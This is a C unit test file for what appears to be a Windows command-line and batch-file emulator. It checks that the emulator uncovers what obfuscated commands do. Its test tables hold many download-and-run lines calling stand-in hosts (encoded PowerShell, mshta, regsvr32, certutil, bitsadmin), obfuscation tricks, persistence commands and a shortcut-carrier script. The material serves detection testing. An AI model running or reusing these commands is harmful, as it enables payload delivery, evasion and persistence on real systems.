/* What command lines and batch files would do, one row a technique. All inert: hosts and programs do not exist. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#include "emulate/cmd/cmd.h"
#include "make/paper.h"

static const struct technique {
    const char *name, *text;
    const char *want[4]; /* each stands in what is told */
} lines[] =
    {
        {"program", "C:\\ProgramData\\q.exe -a b", {"run command=C:\\ProgramData\\q.exe -a b via=cmd"}},
        {"quoted program", "\"C:\\Program Files\\q q.exe\" -a", {"run command=\"C:\\Program Files\\q q.exe\" -a"}},
        {"powershell -e",
         "powershell.exe -nop -w hidden -e "
         "KABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAEYAaQBsAGUAKAAnAGgAdAB0AHA"
         "AOgAvAC8AYQAuAGUAeABhAG0AcABsAGUALwB4ACcALAAnAEMAOgBcAHQAXAB4AC4AZQB4AGUAJwApAA==",
         {"decode how=powershell -EncodedCommand", "download url=http://a.example/x path=C:\\t\\x.exe"}},
        {"powershell -ec",
         "powershell.exe -nop -w hidden -ec "
         "KABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAEYAaQBsAGUAKAAnAGgAdAB0AHA"
         "AOgAvAC8AYQAuAGUAeABhAG0AcABsAGUALwB4ACcALAAnAEMAOgBcAHQAXAB4AC4AZQB4AGUAJwApAA==",
         {"decode how=powershell -EncodedCommand", "download url=http://a.example/x path=C:\\t\\x.exe"}},
        {"powershell -enc",
         "powershell.exe -nop -w hidden -enc "
         "KABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAEYAaQBsAGUAKAAnAGgAdAB0AHA"
         "AOgAvAC8AYQAuAGUAeABhAG0AcABsAGUALwB4ACcALAAnAEMAOgBcAHQAXAB4AC4AZQB4AGUAJwApAA==",
         {"decode how=powershell -EncodedCommand", "download url=http://a.example/x path=C:\\t\\x.exe"}},
        {"powershell -EncodedCommand",
         "powershell.exe -nop -w hidden -EncodedCommand "
         "KABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAEYAaQBsAGUAKAAnAGgAdAB0AHA"
         "AOgAvAC8AYQAuAGUAeABhAG0AcABsAGUALwB4ACcALAAnAEMAOgBcAHQAXAB4AC4AZQB4AGUAJwApAA==",
         {"decode how=powershell -EncodedCommand", "download url=http://a.example/x path=C:\\t\\x.exe"}},
        {"powershell /e",
         "powershell.exe -nop -w hidden /e "
         "KABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAEYAaQBsAGUAKAAnAGgAdAB0AHA"
         "AOgAvAC8AYQAuAGUAeABhAG0AcABsAGUALwB4ACcALAAnAEMAOgBcAHQAXAB4AC4AZQB4AGUAJwApAA==",
         {"decode how=powershell -EncodedCommand", "download url=http://a.example/x path=C:\\t\\x.exe"}},
        {"powershell -eNCodedc",
         "powershell.exe -nop -w hidden -eNCodedc "
         "KABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAEYAaQBsAGUAKAAnAGgAdAB0AHA"
         "AOgAvAC8AYQAuAGUAeABhAG0AcABsAGUALwB4ACcALAAnAEMAOgBcAHQAXAB4AC4AZQB4AGUAJwApAA==",
         {"decode how=powershell -EncodedCommand", "download url=http://a.example/x path=C:\\t\\x.exe"}},
        {"powershell -en",
         "powershell.exe -nop -w hidden -en "
         "KABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAEYAaQBsAGUAKAAnAGgAdAB0AHA"
         "AOgAvAC8AYQAuAGUAeABhAG0AcABsAGUALwB4ACcALAAnAEMAOgBcAHQAXAB4AC4AZQB4AGUAJwApAA==",
         {"decode how=powershell -EncodedCommand", "download url=http://a.example/x path=C:\\t\\x.exe"}},
        {"powershell -c",
         "powershell -c \"(New-Object Net.WebClient).DownloadFile('http://a.example/x','C:\\t\\x.exe')\"",
         {"download url=http://a.example/x path=C:\\t\\x.exe"}},
        {"powershell without a switch",
         "powershell -nop (New-Object Net.WebClient).DownloadFile('http://a.example/x','C:\\t\\x.exe')",
         {"download url=http://a.example/x path=C:\\t\\x.exe"}},
        {"powershell inner quotes",
         "powershell -Command \"iex \\\"iwr http://a.example/x -OutFile C:\\t\\x.exe\\\"\"",
         {"download url=http://a.example/x path=C:\\t\\x.exe"}},
        {"powershell -version and others",
         "C:\\Windows\\SysWOW64\\WindowsPowerShell\\v1.0\\powershell.exe -v 2 -ex bypass -noni -nol -windowstyle 1 -c "
         "(New-Object Net.WebClient).DownloadFile('http://a.example/x','C:\\t\\x.exe')",
         {"download url=http://a.example/x path=C:\\t\\x.exe"}},
        {"carets",
         "cmd /c m^s^h^t^a http://a.ex^ample/x",
         {"run command=mshta http://a.example/x via=cmd", "flow=computed",
          "download url=http://a.example/x method=GET via=mshta"}},
        {"case", "CmD.eXe  /D/c MsHtA http://a.example/x", {"download url=http://a.example/x method=GET via=mshta"}},
        {"quotes around all", "cmd /c \"mshta http://a.example/x\"", {"download url=http://a.example/x method=GET via=mshta"}},
        {"quotes inside words", "cmd /c ms\"\"hta http://a.example/x", {"download url=http://a.example/x method=GET via=mshta"}},
        {"variables",
         "cmd /c \"set q=mshta&&set w=http://a.example/x&&call %q% %w%\"",
         {"download url=http://a.example/x method=GET via=mshta"}},
        {"delayed",
         "cmd /v:on /c \"set q=ms&&set w=hta http://a.exam&&set e=!q!!w!ple/x&&!e!\"",
         {"download url=http://a.example/x method=GET via=mshta"}},
        {"delayed /v",
         "cmd /V/C \"set q=mshta http://a.example/x&&!q!\"",
         {"download url=http://a.example/x method=GET via=mshta"}},
        {"substrings",
         "cmd /v /c \"set s=ahtms/pl:x.e&&!s:~3,1!!s:~4,1!!s:~1,1!!s:~2,1!!s:~0,1! http://a.example/x\"",
         {"download url=http://a.example/x method=GET via=mshta"}},
        {"replacement",
         "cmd /v /c \"set s=mQhtW http://W.example/x&&set s=!s:Q=s!&&!s:W=a!\"",
         {"download url=http://a.example/x method=GET via=mshta"}},
        {"letters of variables",
         "cmd /c %PUBLIC:~-1%x&%COMSPEC:~-7,1%md /c mshta http://a.example/x",
         {"download url=http://a.example/x method=GET via=mshta"}},
        {"reversed by for /l",
         "cmd /v:on /c \"set r=x/elpmaxe.a//:ptth athsm&&for /L %i in (23,-1,0) do set f=!f!!r:~%i,1!&&if %i equ 0 call %f%\"",
         {"run command="}},
        {"indexes",
         "cmd /v /c \"set k=abcdefghijklmnopqrstuvwxyz:/. &&for %i in (12 18 7 19 0 29 7 19 19 15 26 27 27 0 28 4 23 0 12 15 11 "
         "4 27 23 99) do (if %i lss 90 (set o=!o!!k:~%i,1!) else !o!)\"",
         {"download url=http://a.example/x method=GET via=mshta"}},
        {"for /f on text",
         "cmd /c for /f \"tokens=1,3 delims=;\" %a in (\"mshta;no;http://a.example/x\") do %a %b",
         {"download url=http://a.example/x method=GET via=mshta"}},
        {"for /f on output",
         "cmd /c for /f \"delims=\" %a in ('echo mshta http://a.example/x') do %a",
         {"download url=http://a.example/x method=GET via=mshta"}},
        {"for /f usebackq",
         "cmd /c for /f \"usebackq tokens=2*\" %a in (`echo q mshta http://a.example/x`) do %a %b",
         {"download url=http://a.example/x method=GET via=mshta"}},
        {"for /f from set",
         "cmd /c \"set q=mshta http://a.example/x&&for /f \"tokens=1* delims==\" %a in ('set q') do %b\"",
         {"download url=http://a.example/x method=GET via=mshta"}},
        {"for letters of ftype",
         "cmd /c for /f \"tokens=2 delims=.\" %f in ('assoc .ps1') do %f",
         {"run command=PowerShellScript"}},
        {"pipe to cmd", "cmd /c echo mshta http://a.example/x|cmd", {"download url=http://a.example/x method=GET via=mshta"}},
        {"pipe to powershell",
         "cmd /c \"echo (New-Object Net.WebClient).DownloadFile('http://a.example/x','C:\\t\\x.exe') | powershell -nop -\"",
         {"download url=http://a.example/x path=C:\\t\\x.exe"}},
        {"if else",
         "cmd /c if exist C:\\no\\such (echo a) else (mshta http://a.example/x)",
         {"download url=http://a.example/x method=GET via=mshta"}},
        {"if defined and not",
         "cmd /c if not defined NOSUCH if /i AbC==aBc if 2 gtr 1 mshta http://a.example/x",
         {"download url=http://a.example/x method=GET via=mshta"}},
        {"success and failure",
         "cmd /c mshta http://a.example/x || mshta http://b.example/x",
         {"download url=http://a.example/x method=GET via=mshta", "url=http://b.example/x"}},
        {"start",
         "cmd /c start \"q\" /b /min mshta http://a.example/x",
         {"download url=http://a.example/x method=GET via=mshta"}},
        {"start without title",
         "cmd /c start /wait \"\" \"mshta\" http://a.example/x",
         {"download url=http://a.example/x method=GET via=mshta"}},
        {"brackets", "cmd /c ((mshta http://a.example/x))", {"download url=http://a.example/x method=GET via=mshta"}},
        {"echo to a file, run it",
         "cmd /c echo mshta http://a.example/x>%TEMP%\\q.bat&%TEMP%\\q.bat",
         {"write path=C:\\Users\\admin\\AppData\\Local\\Temp\\q.bat", "download url=http://a.example/x method=GET via=mshta"}},
        {"certutil decode",
         "cmd /c echo cGF5bG9hZCB0ZXh0>C:\\t\\q.txt&certutil -decode C:\\t\\q.txt C:\\t\\q.bin",
         {"decode how=certutil base64 bytes=12", "write path=C:\\t\\q.bin bytes=12 flow=decoded", "child q.bin ? payload text"}},
        {"certutil urlcache",
         "certutil -urlcache -split -f http://a.example/x C:\\t\\x.exe",
         {"download url=http://a.example/x path=C:\\t\\x.exe"}},
        {"bitsadmin",
         "bitsadmin /transfer q /download /priority high http://a.example/x C:\\t\\x.exe",
         {"download url=http://a.example/x path=C:\\t\\x.exe"}},
        {"curl",
         "curl.exe -s -L http://a.example/x --output C:\\t\\x.exe",
         {"download url=http://a.example/x path=C:\\t\\x.exe"}},
        {"download and start",
         "cmd /c curl -o %TEMP%\\q.exe http://a.example/x&&%TEMP%\\q.exe",
         {"download url=http://a.example/x path=C:\\Users\\admin\\AppData\\Local\\Temp\\q.exe",
          "run command=C:\\Users\\admin\\AppData\\Local\\Temp\\q.exe path=C:\\Users\\admin\\AppData\\Local\\Temp\\q.exe via=cmd "
          "flow=network"}},
        {"regsvr32 address",
         "regsvr32 /s /n /u /i:http://a.example/x scrobj.dll",
         {"download url=http://a.example/x method=GET via=regsvr32"}},
        {"regsvr32 file", "regsvr32.exe -s C:\\t\\q.ocx", {"load library=C:\\t\\q.ocx function=DllRegisterServer via=regsvr32"}},
        {"rundll32", "rundll32.exe C:\\t\\q.dll,Begin 5", {"load library=C:\\t\\q.dll function=Begin via=rundll32"}},
        {"rundll32 script",
         "rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)",
         {"child rundll32 script.javascript"}},
        {"mshta script", "mshta vbscript:Execute(\"x=1\")", {"child mshta script.vbscript Execute("}},
        {"msiexec", "msiexec /q /i http://a.example/x.msi", {"download url=http://a.example/x.msi method=GET via=msiexec"}},
        {"schtasks",
         "schtasks /create /sc minute /mo 30 /tn q /tr \"mshta http://a.example/x\" /f",
         {"persist how=task target=q command=mshta http://a.example/x", "download url=http://a.example/x method=GET via=mshta"}},
        {"reg add",
         "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v q /t REG_SZ /d C:\\t\\x.exe /f",
         {"persist how=run-key", "command=C:\\t\\x.exe"}},
        {"service", "sc create q binPath= \"C:\\t\\x.exe\" start= auto", {"persist how=service target=q command=C:\\t\\x.exe"}},
        {"wmic",
         "wmic process call create \"mshta http://a.example/x\"",
         {"download url=http://a.example/x method=GET via=mshta"}},
        {"wmic format", "wmic os get /format:\"http://a.example/x\"", {"download url=http://a.example/x method=GET via=wmic"}},
        {"forfiles",
         "forfiles /p c:\\windows /m notepad.exe /c \"mshta http://a.example/x\"",
         {"download url=http://a.example/x method=GET via=mshta"}},
        {"wait", "cmd /c ping -n 20 127.0.0.1>nul&timeout /t 5", {"wait seconds=20"}},
        {"set /a", "cmd /v /c \"set /a q=(2+3)*4-0x10/4&echo !q!>C:\\t\\v.txt\"", {"child v.txt ? 16"}},
        {"nested cmd", "cmd /c cmd /c cmd /c mshta http://a.example/x", {"download url=http://a.example/x method=GET via=mshta"}},
},
  batches[] = {
      {"labels and call",
       "@echo off\r\nset u=http://a.example\r\ncall :go %u%/x\r\ngoto end\r\n:go\r\nmshta %1\r\nexit /b 0\r\n:end\r\n",
       {"download url=http://a.example/x method=GET via=mshta"}},
      {"loop with goto",
       "set n=0\r\n:again\r\nset /a n+=1\r\nif %n% lss 3 goto again\r\nmshta http://%n%.example/x\r\n",
       {"download url=http://3.example/x"}},
      {"brackets over lines",
       "if 1==1 (\r\n  set a=b\r\n  mshta http://a.example/x\r\n) else (\r\n  echo no\r\n)\r\n",
       {"download url=http://a.example/x method=GET via=mshta"}},
      {"joined lines", "ms^\r\nhta http://a.exa^\r\nmple/x\r\n", {"download url=http://a.example/x method=GET via=mshta"}},
      {"delayed in brackets",
       "setlocal EnableDelayedExpansion\r\nfor %%i in (m s h t a) do (\r\nset w=!w!%%i\r\n)\r\n!w! http://a.example/x\r\n",
       {"download url=http://a.example/x method=GET via=mshta"}},
      {"letters one by one",
       "@echo off\r\nset a=m\r\nset b=s\r\nset c=h\r\nset d=t\r\nset e=a\r\n%a%%b%%c%%d%%e% http://a.example/x\r\n",
       {"download url=http://a.example/x method=GET via=mshta", "flow=computed"}},
      {"for /l and for /f over a file",
       "(\r\necho a,http://a.example/x\r\necho b,http://b.example/x\r\n)>C:\\t\\l.txt\r\nfor /f \"tokens=2 delims=,\" %%u in "
       "(C:\\t\\l.txt) do mshta %%u\r\n",
       {"download url=http://a.example/x method=GET via=mshta", "url=http://b.example/x"}},
      {"percent signs", "echo 100%% of %%x%%>C:\\t\\v.txt\r\n", {"child v.txt ? 100% of %x%"}},
      {"script line by line",
       "echo iwr http://a.example/x -OutFile C:\\t\\x.exe>C:\\t\\q.ps1\r\npowershell -ep bypass -file C:\\t\\q.ps1\r\n",
       {"download url=http://a.example/x path=C:\\t\\x.exe"}},
};

static void check(make_paper *p, const struct technique *t)
{
    const char *told = make_paper_told(p);
    for (size_t k = 0; k < SK_COUNT(t->want) && t->want[k]; k++)
        if (!strstr(told, t->want[k])) {
            print_error("%s: no \"%s\" in\n%s", t->name, t->want[k], told);
            fail();
        }
    make_paper_free(p);
}

static void test_lines(void **state)
{
    (void)state;
    for (size_t i = 0; i < SK_COUNT(lines); i++) {
        make_paper *p = make_paper_new(0);
        make_paper_command(p, sk_bytes_str(lines[i].text));
        check(p, &lines[i]);
    }
}

static void test_batches(void **state)
{
    (void)state;
    for (size_t i = 0; i < SK_COUNT(batches); i++) {
        make_paper *p = make_paper_new(0);
        make_paper_batch(p, sk_bytes_str(batches[i].text));
        check(p, &batches[i]);
    }
}

/* A script behind the last byte of a shortcut, which findstr picks out of the shortcut itself. */
static void test_carrier(void **state)
{
    (void)state;
    sk_bytes carrier = SK_LIT("L\x01\x00\x02 header bytes\xFE\xFF\n\r\nqq7x=1\r\nMsgBox \"payload\"\r\n");
    make_paper *p = make_paper_new(0);
    make_paper_carrier(p, "C:\\Users\\admin\\Downloads\\form.lnk", carrier);
    make_paper_command(p, SK_LIT("cmd.exe /v:on /c findstr \"MsgBox.*\" form.lnk > \"%tmp%\\q.vbs\" & \"%tmp%\\q.vbs\""));
    const char *told = make_paper_told(p);
    assert_non_null(strstr(told, "read path=C:\\Users\\admin\\Downloads\\form.lnk"));
    assert_non_null(strstr(told, "child q.vbs ? MsgBox \"payload\""));
    assert_non_null(strstr(told, "run command=\"C:\\Users\\admin\\AppData\\Local\\Temp\\q.vbs\" path="));
    make_paper_free(p);
}

static void test_powershell_switches(void **state)
{
    (void)state;
    sk_arena *a = sk_arena_new(1u << 20);
    sk_powershell_line l = sk_powershell_line_of(a, SK_LIT(" -NoP -sta -W Hidden -File C:\\t\\q.ps1 one"));
    assert_true(sk_equal(l.file, SK_LIT("C:\\t\\q.ps1")) && l.hidden && sk_equal(l.script, SK_LIT("one")));
    l = sk_powershell_line_of(a, SK_LIT("-noexit -c a b \"c d\""));
    assert_true(l.no_exit && sk_equal(l.script, SK_LIT("a b c d")));
    l = sk_powershell_line_of(a, SK_LIT("-command -"));
    assert_true(l.from_input);
    l = sk_powershell_line_of(a, SK_LIT("-enc"));
    assert_true(l.encoded && l.script.len == 0);
    l = sk_powershell_line_of(a, SK_LIT(""));
    assert_true(l.script.len == 0 && l.file.len == 0);
    sk_arena_free(a);
}

static const char *const endless[] = {":a\r\ngoto a\r\n",
                                      "for /l %%i in (1,0,2) do set x=%%i\r\n",
                                      "set a=x\r\n:l\r\nset a=%a%%a%\r\ngoto l\r\n",
                                      "call :f\r\n:f\r\ncall :f\r\ncall :f\r\n",
                                      "for /l %%a in (1,1,99999) do for /l %%b in (1,1,99999) do set x=1\r\n",
                                      "echo %%0>%TEMP%\\q.bat\r\n%TEMP%\\q.bat\r\n",
                                      ":l\r\ncmd /c cmd /c cmd /c cmd /c echo a\r\ngoto l\r\n",
                                      ":l\r\necho aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa|findstr a*a*a*a*a*a*a*b\r\ngoto l\r\n"};

static void test_endless(void **state)
{
    (void)state;
    for (size_t i = 0; i < SK_COUNT(endless); i++) {
        make_paper *p = make_paper_new(100000);
        sk_buf text = sk_buf_new(p->arena, 4096);
        sk_buf_str(&text, "mshta http://a.example/x\r\n");
        sk_buf_str(&text, endless[i]);
        make_paper_batch(p, sk_buf_view(&text));
        assert_non_null(strstr(make_paper_told(p), "download url=http://a.example/x"));
        assert_true(sk_arena_used(p->arena) < 200u << 20);
        make_paper_free(p);
    }
}

static void test_deep(void **state)
{
    static const char *const units[] = {
        "(", "if 1==1 ", "for %a in (1) do ", "cmd /c ",        "call ", "start ", "^", "\"", "a|", "a&&", "%a",
        "!", "@",        "set /a (",          "powershell -c ", ">a "};
    (void)state;
    for (size_t i = 0; i < SK_COUNT(units); i++) {
        make_paper *p = make_paper_new(200000);
        sk_buf text = sk_buf_new(p->arena, 1u << 20);
        for (unsigned k = 0; k < 3000; k++) sk_buf_str(&text, units[i]);
        sk_buf_str(&text, "echo a");
        make_paper_command(p, sk_buf_view(&text));
        make_paper_batch(p, sk_buf_view(&text));
        make_paper_free(p);
    }
}

static void test_cut_everywhere(void **state)
{
    (void)state;
    for (size_t i = 0; i < SK_COUNT(lines); i += 2) {
        sk_bytes line = sk_bytes_str(lines[i].text);
        for (size_t len = 0; len < line.len; len += line.len / 40 + 1) {
            make_paper *p = make_paper_new(20000);
            make_paper_command(p, sk_slice(line, 0, len));
            make_paper_free(p);
        }
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {cmocka_unit_test(test_lines),         cmocka_unit_test(test_batches),
                                       cmocka_unit_test(test_carrier),       cmocka_unit_test(test_powershell_switches),
                                       cmocka_unit_test(test_endless),       cmocka_unit_test(test_deep),
                                       cmocka_unit_test(test_cut_everywhere)};
    return cmocka_run_group_tests(tests, NULL, NULL);
}
